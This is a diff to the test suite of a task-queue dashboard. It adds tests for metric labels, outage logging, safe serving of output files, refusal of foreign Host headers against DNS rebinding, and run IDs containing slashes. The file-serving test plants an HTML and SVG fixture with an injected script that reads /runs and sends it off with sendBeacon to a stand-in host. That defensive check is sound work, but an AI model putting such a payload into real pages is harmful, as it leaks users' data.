@@ -77,8 +77,9 @@ def test_pages_and_metrics_on_every_backend(backend):
     samples = parse_metrics(bodies["/metrics"])
     counts = _raw_counts(backend)
     for (task_type, status_name), rows in counts.items():
-        assert samples[("headless_tasks", (("status", status_name), ("task_type", task_type)))] == rows
-    assert samples[("headless_tasks", (("status", Status.CANCELLED), ("task_type", "noop")))] == 0
+        label = status_name.lower().replace(" ", "_")                 # lower_snake_case label values
+        assert samples[("headless_tasks", (("status", label), ("task_type", task_type)))] == rows
+    assert samples[("headless_tasks", (("status", "cancelled"), ("task_type", "noop")))] == 0
     assert samples[("headless_tasks_completed_total", (("task_type", "noop"),))] == 1
     assert samples[("headless_tasks_failed_total", (("task_type", "extract_frame"),))] == 1
     assert samples[("headless_task_duration_seconds_count", (("task_type", "noop"),))] == 1
@@ -170,7 +171,7 @@ def test_runs_are_paged_newest_first(sqlite_backend):
     assert [len(r) for r in runs] == [50, 50, 20]
     assert runs[0][0] == "run-119" and runs[2][-1] == "run-000"
     assert sorted(sum(runs, [])) == [f"run-{i:03d}" for i in range(120)]
-    assert "page=2" in pages[0] and "older" in pages[1] and "older" not in pages[2]
+    assert "page=2" in pages[0] and "older →" in pages[1] and "older →" not in pages[2]
     status, _, body = dashboard.get("/runs/no-such-run")
     assert status == 404 and b"no run or row with id no-such-run" in body
     assert dashboard.get("/runs?page=oops&status=Nonsense")[0] == 200
@@ -201,5 +202,55 @@ def test_a_lost_database_is_a_503_that_names_no_secret(tmp_path):
                 assert status == 503 and b"queue did not answer" in body, (path, body)
                 assert b"sekret" not in body and len(body.decode().strip().splitlines()) == 1
             assert dashboard.proc.poll() is None and dashboard.get("/healthz")[0] == 200
+            # one log line for the outage, not a traceback per request
+            log = dashboard.log()
+            assert "Traceback" not in log and log.count("queue did not answer") == 1, log[-3000:]
         finally:
             backend.stop_all()
+
+
+def test_output_files_are_never_pages_of_the_dashboard(sqlite_backend):
+    """A row can plant any file in an output folder: HTML, SVG and unknown types are downloads, every file
+    comes with a CSP that lets nothing run, and nosniff."""
+    outputs = Path(sqlite_backend.env["MAIN_OUTPUT_DIR"])
+    outputs.mkdir(parents=True, exist_ok=True)
+    script = b"<script>fetch('/runs').then(r => r.text()).then(t => navigator.sendBeacon('//x', t))</script>"
+    (outputs / "evil.html").write_bytes(b"<html><body>" + script + b"</body></html>")
+    (outputs / "evil.svg").write_bytes(b'<svg xmlns="http://www.w3.org/2000/svg">' + script + b"</svg>")
+    (outputs / "notes.txt").write_bytes(b"<html>" + script)
+    (outputs / "clip.mp4").write_bytes(b"\0\0\0\x18ftypmp42")
+    (outputs / "still.png").write_bytes(b"\x89PNG\r\n\x1a\n")
+    dashboard = start_dashboard(sqlite_backend)
+    for name in ("evil.html", "evil.svg", "notes.txt"):
+        status, headers, _ = dashboard.get(f"/files/0/{name}")
+        assert status == 200, name
+        assert headers["content-disposition"].startswith("attachment"), (name, headers)
+        assert headers["content-type"] == "application/octet-stream", (name, headers)
+        assert "default-src 'none'" in headers["content-security-policy"] and "sandbox" in headers["content-security-policy"]
+        assert headers["x-content-type-options"] == "nosniff"
+    for name, kind in (("clip.mp4", "video/mp4"), ("still.png", "image/png")):
+        status, headers, _ = dashboard.get(f"/files/0/{name}")
+        assert status == 200 and headers["content-type"] == kind and "content-disposition" not in headers
+        assert "script-src 'none'" in headers["content-security-policy"] and headers["x-content-type-options"] == "nosniff"
+
+
+def test_a_foreign_host_header_is_refused(sqlite_backend):
+    """DNS rebinding: a request naming another site in Host is refused before any page or file answers."""
+    dashboard = start_dashboard(sqlite_backend, DASHBOARD_HOSTNAMES="dash.example.org")
+    port = dashboard.port
+    for host in ("evil.example.com", f"evil.example.com:{port}", "127.0.0.1.evil.example", "dash.example.org.evil"):
+        for path in ("/", "/metrics", "/files/0/x.mp4", "/runs"):
+            status, _, body = dashboard.get(path, {"Host": host})
+            assert status == 421 and b"host name" in body, (host, path, status)
+    for host in (f"127.0.0.1:{port}", f"localhost:{port}", "dash.example.org", f"DASH.example.org:{port}"):
+        assert dashboard.get("/", {"Host": host})[0] == 200, host
+
+
+def test_a_run_id_with_a_slash_has_its_page(sqlite_backend):
+    queue = sqlite_backend.queue()
+    queue.enqueue([NewTask("noop", {}, run_id="team/a/run 1")])
+    dashboard = start_dashboard(sqlite_backend)
+    runs = dashboard.get("/runs")[2].decode()
+    assert 'href="/runs/team/a/run%201"' in runs
+    status, _, body = dashboard.get("/runs/team/a/run%201")
+    assert status == 200 and "team/a/run 1" in body.decode()
